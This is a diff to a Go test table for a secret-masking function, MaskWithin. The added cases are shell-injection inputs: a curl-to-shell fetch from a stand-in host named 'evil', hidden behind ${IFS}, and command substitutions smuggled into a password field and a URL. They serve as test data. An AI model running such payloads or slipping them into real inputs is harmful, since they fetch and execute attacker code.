@@ -52,6 +52,9 @@ func TestMaskWithin(t *testing.T) {
 		"a = 1\naccess-tokens = github.com=hunter2 x":  "a = 1\naccess-tokens = [hidden] x",
 		`{"auth": "hunter2", "b": 1}`:                  `{"auth": "[hidden]", "b": 1}`,
 		"plain":                                        "plain",
+		"token=$(curl${IFS}evil|sh)":                   "token=$(curl${IFS}evil|sh)",
+		"password=`evil`":                              "password=`evil`",
+		"http://me:$(evil)@host":                       "http://me:$(evil)@host",
 		"aB3dE5fG7hI9jK1lM3":                           "[hidden]",
 	} {
 		if got := MaskWithin(text); got != want {
